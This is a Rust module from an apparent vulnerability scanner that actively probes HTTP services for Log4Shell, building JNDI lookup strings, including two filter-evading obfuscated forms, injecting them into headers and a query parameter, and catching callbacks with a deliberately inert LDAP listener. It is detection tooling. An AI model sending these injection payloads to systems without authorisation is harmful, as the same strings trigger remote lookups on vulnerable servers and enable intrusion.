//! `--active`: the Log4Shell probe with the scanner's own LDAP callback listener. Opt-in,
//! never default.
//!
//! For every HTTP(S) service the identification found, the probe binds an LDAP listener on
//! the scanner's own address towards that service (the local address of the probe's TCP
//! connection; no outside callback host), then sends one request per payload form. Each
//! request carries a `${jndi:ldap://<scanner>:<port>/<token>}` lookup in five injection points
//! (User-Agent, X-Forwarded-For, X-Api-Version, Referer, a query parameter), with one token per
//! target, port, injection point and form. Forms: the plain payload and two disguised ones
//! ([`FORMS`]). A vulnerable Log4j performs the lookup while it logs the request: it connects
//! to the listener, binds, and searches for the token as the base DN.
//!
//! The listener answers bind success, then search done with `noSuchObject`, then closes: never
//! an entry, a referral, a `javaCodeBase` or a serialized object (it has no code to build
//! one). It answers each message as soon as it is read; a silent listener would hang the
//! device's request thread (the JDK's LDAP client has no read timeout). Requests to one
//! host go one after the other; nothing is retried.
//!
//! Verdicts: a callback with one of the service's tokens = the JNDI lookup was executed (with
//! the token's injection point and form, and whether it came from the target's own address);
//! none = not detected, which is not the same as safe.

use std::collections::{BTreeMap, HashMap};
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use praxcheck_model::{Log4ShellCallback, Log4ShellProbe, Log4ShellVerdict};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::Semaphore;
use tokio::task::{JoinHandle, JoinSet};
use tokio::time::Instant;

use crate::engine::{Connect, Gate};
use crate::probes::http_done;

/// The payload forms: the plain lookup and two disguised ones (`${lower:…}` and
/// `${::-…}` default values, the two that filters on the literal `${jndi:` miss most often).
pub const FORMS: [&str; 3] = ["plain", "lower", "default-value"];

/// The injection points of every request.
pub const INJECTION_POINTS: [&str; 5] = [
    "user-agent",
    "x-forwarded-for",
    "x-api-version",
    "referer",
    "query",
];

/// Connections the listener handles over its life at most.
pub const MAX_CALLBACK_CONNECTIONS: usize = 1024;
/// Connections the listener handles at once at most.
pub const MAX_PARALLEL_CALLBACKS: usize = 64;
/// Bytes read from one callback connection at most.
pub const MAX_CALLBACK_BYTES: usize = 4096;
/// Time one callback connection may take at most.
pub const CALLBACK_CONNECTION_TIME: Duration = Duration::from_secs(3);

/// The lookup string of a form. `host` is the scanner's address as the target reaches it.
#[must_use]
pub fn payload(form: &str, host: IpAddr, port: u16, token: &str) -> String {
    let host = match host {
        IpAddr::V4(a) => a.to_string(),
        IpAddr::V6(a) => format!("[{a}]"),
    };
    match form {
        "lower" => format!("${{${{lower:j}}ndi:${{lower:l}}dap://{host}:{port}/{token}}}"),
        "default-value" => format!(
            "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{host}:{port}/{token}}}"
        ),
        _ => format!("${{jndi:ldap://{host}:{port}/{token}}}"),
    }
}

/// A fresh token: `px` and 16 hex digits from the operating system's random source.
#[must_use]
pub fn new_token() -> String {
    let mut b = [0u8; 8];
    if getrandom::fill(&mut b).is_err() {
        // No random source: still unique within this process (time and a counter).
        static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
        let t = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0);
        let v = (t as u64) ^ N.fetch_add(1, Ordering::Relaxed).rotate_left(48);
        b = v.to_be_bytes();
    }
    let mut s = String::from("px");
    for x in b {
        s.push_str(&format!("{x:02x}"));
    }
    s
}

/// Percent-encodes everything but unreserved characters (RFC 3986).
#[must_use]
pub fn percent_encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The request of one form: `tokens` holds one token per [`INJECTION_POINTS`] entry.
#[must_use]
pub fn request(
    target: SocketAddr,
    scanner: IpAddr,
    port: u16,
    form: &str,
    tokens: &[String; 5],
) -> Vec<u8> {
    let p = |i: usize| payload(form, scanner, port, &tokens[i]);
    let host = match target {
        SocketAddr::V4(a) => a.ip().to_string(),
        SocketAddr::V6(a) => format!("[{}]", a.ip()),
    };
    format!(
        "GET /?q={} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\nX-Forwarded-For: {}\r\n\
         X-Api-Version: {}\r\nReferer: {}\r\nAccept: */*\r\nConnection: close\r\n\r\n",
        percent_encode(&p(4)),
        p(0),
        p(1),
        p(2),
        p(3)
    )
    .into_bytes()
}

/// The LDAP messages of the listener, by hand: it needs to read two requests (bind, search)
/// and write two fixed-shape results, and must be unable to write anything else. A full
/// LDAP codec crate would bring the ability to send entries and referrals this listener
/// must never send, and much code for three message types.
pub mod ldap {
    /// The length of the first complete BER element in `b` (a `SEQUENCE`), `Some(Err(()))`
    /// when it is not an LDAP message, `None` when more bytes are needed.
    #[must_use]
    pub fn message_len(b: &[u8]) -> Option<Result<usize, ()>> {
        if b.is_empty() {
            return None;
        }
        if b[0] != 0x30 {
            return Some(Err(()));
        }
        let (len, hdr) = length(b.get(1..)?)?;
        let Ok(len) = len else {
            return Some(Err(()));
        };
        let total = 1 + hdr + len;
        if total > super::MAX_CALLBACK_BYTES {
            return Some(Err(()));
        }
        (b.len() >= total).then_some(Ok(total))
    }

    /// A BER length: (value, bytes it took). `None`: more bytes needed.
    fn length(b: &[u8]) -> Option<(Result<usize, ()>, usize)> {
        let first = *b.first()?;
        if first < 0x80 {
            return Some((Ok(usize::from(first)), 1));
        }
        let n = usize::from(first & 0x7f);
        if n == 0 || n > 3 {
            return Some((Err(()), 1));
        }
        let bytes = b.get(1..=n)?;
        Some((
            Ok(bytes.iter().fold(0usize, |a, x| (a << 8) | usize::from(*x))),
            1 + n,
        ))
    }

    /// One TLV inside a complete message: (tag, value, rest).
    fn tlv(b: &[u8]) -> Option<(u8, &[u8], &[u8])> {
        let tag = *b.first()?;
        let (len, hdr) = length(b.get(1..)?)?;
        let len = len.ok()?;
        let v = b.get(1 + hdr..1 + hdr + len)?;
        Some((tag, v, &b[1 + hdr + len..]))
    }

    /// A request the listener understands.
    #[derive(Debug, Clone, PartialEq, Eq)]
    pub enum Request {
        /// BindRequest with its message id.
        Bind(u32),
        /// SearchRequest with its message id and base DN (lossy UTF-8).
        Search(u32, String),
        /// Anything else (the listener closes).
        Other,
    }

    /// Parses one complete message.
    #[must_use]
    pub fn parse(msg: &[u8]) -> Request {
        let Some((0x30, seq, _)) = tlv(msg) else {
            return Request::Other;
        };
        let Some((0x02, id, rest)) = tlv(seq) else {
            return Request::Other;
        };
        if id.is_empty() || id.len() > 4 {
            return Request::Other;
        }
        let id = id.iter().fold(0u32, |a, x| (a << 8) | u32::from(*x));
        match tlv(rest) {
            Some((0x60, _, _)) => Request::Bind(id),
            Some((0x63, op, _)) => match tlv(op) {
                Some((0x04, base, _)) => {
                    Request::Search(id, String::from_utf8_lossy(base).into_owned())
                }
                _ => Request::Other,
            },
            _ => Request::Other,
        }
    }

    fn integer(v: u32) -> Vec<u8> {
        let mut b: Vec<u8> = v.to_be_bytes().to_vec();
        while b.len() > 1 && b[0] == 0 && b[1] < 0x80 {
            b.remove(0);
        }
        if b[0] >= 0x80 {
            b.insert(0, 0);
        }
        let mut out = vec![0x02, u8::try_from(b.len()).unwrap_or(5)];
        out.extend(b);
        out
    }

    /// An LDAPResult of `op` (application tag) with `code`, empty matched DN and message.
    fn result(id: u32, op: u8, code: u8) -> Vec<u8> {
        let mut body = integer(id);
        body.extend([op, 0x07, 0x0a, 0x01, code, 0x04, 0x00, 0x04, 0x00]);
        let mut m = vec![0x30, u8::try_from(body.len()).unwrap_or(0)];
        m.extend(body);
        m
    }

    /// bindResponse, success.
    #[must_use]
    pub fn bind_success(id: u32) -> Vec<u8> {
        result(id, 0x61, 0)
    }

    /// searchResDone, noSuchObject (32).
    #[must_use]
    pub fn search_done_no_such_object(id: u32) -> Vec<u8> {
        result(id, 0x65, 0x20)
    }
}

/// One connection the listener saw.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Seen {
    /// The address it came from.
    pub peer: IpAddr,
    /// The base DN of its search, when it got that far (capped, printable).
    pub dn: Option<String>,
}

/// The LDAP callback listener.
pub struct Listener {
    /// Where it listens.
    pub addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
    task: JoinHandle<()>,
}

impl Listener {
    /// Binds on `ip:port` (port 0: any free port) and starts answering.
    ///
    /// # Errors
    /// When the address cannot be bound.
    pub async fn bind(ip: IpAddr, port: u16) -> std::io::Result<Self> {
        let l = TcpListener::bind(SocketAddr::new(ip, port)).await?;
        let addr = l.local_addr()?;
        let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
        let s2 = Arc::clone(&seen);
        let task = tokio::spawn(async move {
            let parallel = Arc::new(Semaphore::new(MAX_PARALLEL_CALLBACKS));
            let mut handlers = JoinSet::new();
            for _ in 0..MAX_CALLBACK_CONNECTIONS {
                let Ok((stream, peer)) = l.accept().await else {
                    continue;
                };
                let Ok(permit) = Arc::clone(&parallel).acquire_owned().await else {
                    break;
                };
                let seen = Arc::clone(&s2);
                handlers.spawn(async move {
                    let _ = stream.set_nodelay(true);
                    let deadline = Instant::now() + CALLBACK_CONNECTION_TIME;
                    let dn = answer(stream, deadline).await;
                    if let Ok(mut v) = seen.lock() {
                        v.push(Seen {
                            peer: peer.ip(),
                            dn,
                        });
                    }
                    drop(permit);
                });
                while handlers.try_join_next().is_some() {}
            }
        });
        Ok(Self { addr, seen, task })
    }

    /// What it saw so far.
    #[must_use]
    pub fn seen(&self) -> Vec<Seen> {
        self.seen.lock().map(|v| v.clone()).unwrap_or_default()
    }

    /// Stops it (open connections are dropped) and returns what it saw.
    #[must_use]
    pub fn stop(self) -> Vec<Seen> {
        self.task.abort();
        self.seen()
    }
}

/// Reads one complete LDAP message (within the deadline and the byte cap).
async fn read_message(s: &mut TcpStream, buf: &mut Vec<u8>, deadline: Instant) -> Option<Vec<u8>> {
    let mut chunk = [0u8; 1024];
    loop {
        match ldap::message_len(buf) {
            Some(Ok(n)) => return Some(buf.drain(..n).collect()),
            Some(Err(())) => return None,
            None => {}
        }
        if buf.len() >= MAX_CALLBACK_BYTES {
            return None;
        }
        match tokio::time::timeout_at(deadline, s.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => buf.extend_from_slice(&chunk[..n]),
            _ => return None,
        }
    }
}

/// Answers one callback connection: bind success, then search done (noSuchObject), then
/// close. Returns the searched base DN.
async fn answer(mut s: TcpStream, deadline: Instant) -> Option<String> {
    let mut buf = Vec::new();
    let first = read_message(&mut s, &mut buf, deadline).await?;
    let ldap::Request::Bind(id) = ldap::parse(&first) else {
        return None;
    };
    tokio::time::timeout_at(deadline, s.write_all(&ldap::bind_success(id)))
        .await
        .ok()?
        .ok()?;
    let second = read_message(&mut s, &mut buf, deadline).await?;
    let ldap::Request::Search(id, dn) = ldap::parse(&second) else {
        return None;
    };
    let _ =
        tokio::time::timeout_at(deadline, s.write_all(&ldap::search_done_no_such_object(id))).await;
    let _ = tokio::time::timeout_at(deadline, s.shutdown()).await;
    let mut dn: String = dn
        .chars()
        .filter(|c| c.is_ascii_graphic())
        .take(128)
        .collect();
    dn.shrink_to_fit();
    Some(dn)
}

/// An HTTP(S) service to probe.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HttpTarget {
    /// Address and port.
    pub addr: SocketAddr,
    /// Speaks TLS.
    pub tls: bool,
}

/// Options of the active probe.
#[derive(Debug, Clone)]
pub struct ActiveOptions {
    /// Listener port (0: any free port).
    pub callback_port: u16,
    /// How long to wait for late callbacks after the last request.
    pub callback_wait: Duration,
    /// Time limit of one request.
    pub request_timeout: Duration,
}

struct TokenInfo {
    target: usize,
    point: &'static str,
    form: &'static str,
}

type Listeners = Arc<tokio::sync::Mutex<HashMap<IpAddr, Listener>>>;
type Tokens = Arc<Mutex<HashMap<String, TokenInfo>>>;

/// Probes every service and returns one result per service (in the given order).
pub async fn probe(
    targets: &[HttpTarget],
    gate: Arc<Gate>,
    o: &ActiveOptions,
) -> Vec<Log4ShellProbe> {
    if targets.is_empty() {
        return Vec::new();
    }
    let listeners: Listeners = Arc::default();
    let tokens: Tokens = Arc::default();
    let requests: Arc<Mutex<Vec<u32>>> = Arc::new(Mutex::new(vec![0; targets.len()]));
    // One task per host; its services one after the other.
    let mut by_host: BTreeMap<IpAddr, Vec<usize>> = BTreeMap::new();
    for (i, t) in targets.iter().enumerate() {
        by_host.entry(t.addr.ip()).or_default().push(i);
    }
    let mut set = JoinSet::new();
    for (_, idx) in by_host {
        let targets: Vec<(usize, HttpTarget)> = idx.iter().map(|i| (*i, targets[*i])).collect();
        let (gate, listeners, tokens, requests, o) = (
            Arc::clone(&gate),
            Arc::clone(&listeners),
            Arc::clone(&tokens),
            Arc::clone(&requests),
            o.clone(),
        );
        set.spawn(async move {
            for (i, t) in targets {
                let n = probe_one(i, t, &gate, &listeners, &tokens, &o).await;
                if let Ok(mut r) = requests.lock() {
                    r[i] = n;
                }
            }
        });
    }
    while set.join_next().await.is_some() {}
    tokio::time::sleep(o.callback_wait).await;
    let mut seen = Vec::new();
    for (_, l) in listeners.lock().await.drain() {
        seen.extend(l.stop());
    }
    let tokens = tokens
        .lock()
        .map(|mut t| std::mem::take(&mut *t))
        .unwrap_or_default();
    let requests = requests.lock().map(|r| r.clone()).unwrap_or_default();
    let mut out: Vec<Log4ShellProbe> = targets
        .iter()
        .enumerate()
        .map(|(i, t)| Log4ShellProbe {
            address: t.addr.ip().to_string(),
            port: t.addr.port(),
            scheme: if t.tls { "https" } else { "http" }.to_owned(),
            verdict: Log4ShellVerdict::NotDetected,
            requests: requests.get(i).copied().unwrap_or(0),
            callbacks: Vec::new(),
        })
        .collect();
    for s in seen {
        let Some(dn) = &s.dn else { continue };
        let Some(info) = tokens.get(dn.as_str()).or_else(|| {
            tokens
                .iter()
                .find(|(t, _)| dn.contains(t.as_str()))
                .map(|(_, v)| v)
        }) else {
            continue;
        };
        let Some(p) = out.get_mut(info.target) else {
            continue;
        };
        let cb = Log4ShellCallback {
            injection_point: info.point.to_owned(),
            form: info.form.to_owned(),
            peer: s.peer.to_string(),
            from_target: s.peer == targets[info.target].addr.ip(),
        };
        p.verdict = Log4ShellVerdict::LookupExecuted;
        // One callback per token and peer (a disguised form can call back up to 9 times).
        if !p.callbacks.contains(&cb) {
            p.callbacks.push(cb);
        }
    }
    for p in &mut out {
        p.callbacks.sort_by(|a, b| {
            (&a.injection_point, &a.form, &a.peer).cmp(&(&b.injection_point, &b.form, &b.peer))
        });
    }
    out
}

/// Sends the requests of every form to one service; returns how many were sent.
async fn probe_one(
    i: usize,
    t: HttpTarget,
    gate: &Gate,
    listeners: &Listeners,
    tokens: &Tokens,
    o: &ActiveOptions,
) -> u32 {
    let mut sent = 0;
    for form in FORMS {
        let Connect::Open(conn) = gate.connect(t.addr).await else {
            return sent;
        };
        let Ok(local) = conn.stream.local_addr() else {
            return sent;
        };
        let port = {
            let mut l = listeners.lock().await;
            if let Some(x) = l.get(&local.ip()) {
                x.addr.port()
            } else {
                let Ok(x) = Listener::bind(local.ip(), o.callback_port).await else {
                    // No listener (port taken): the probe cannot prove anything here.
                    return sent;
                };
                let p = x.addr.port();
                l.insert(local.ip(), x);
                p
            }
        };
        let toks: [String; 5] = std::array::from_fn(|_| new_token());
        if let Ok(mut m) = tokens.lock() {
            for (k, tok) in toks.iter().enumerate() {
                m.insert(
                    tok.clone(),
                    TokenInfo {
                        target: i,
                        point: INJECTION_POINTS[k],
                        form,
                    },
                );
            }
        }
        let req = request(t.addr, local.ip(), port, form, &toks);
        let deadline = Instant::now() + o.request_timeout;
        gate.probes.fetch_add(1, Ordering::Relaxed);
        let written = if t.tls {
            let Some(c) = crate::tls::any_cert_connector() else {
                return sent;
            };
            let (stream, _permits) = conn.into_parts();
            match tokio::time::timeout_at(
                deadline,
                c.connect(crate::tls::server_name(t.addr), stream),
            )
            .await
            {
                Ok(Ok(mut s)) => exchange(&mut s, &req, deadline).await,
                _ => false,
            }
        } else {
            let (mut stream, _permits) = conn.into_parts();
            exchange(&mut stream, &req, deadline).await
        };
        sent += u32::from(written);
    }
    sent
}

/// Writes the request and reads the answer (head and a capped body, or until closed).
/// Returns whether the request was written.
async fn exchange<S: AsyncRead + AsyncWrite + Unpin>(
    s: &mut S,
    req: &[u8],
    deadline: Instant,
) -> bool {
    if !matches!(
        tokio::time::timeout_at(deadline, s.write_all(req)).await,
        Ok(Ok(()))
    ) {
        return false;
    }
    let mut buf = Vec::new();
    let mut chunk = [0u8; 2048];
    while buf.len() < crate::MAX_READ_BYTES && !http_done(&buf) {
        match tokio::time::timeout_at(deadline, s.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => buf.extend_from_slice(&chunk[..n]),
            _ => break,
        }
    }
    true
}
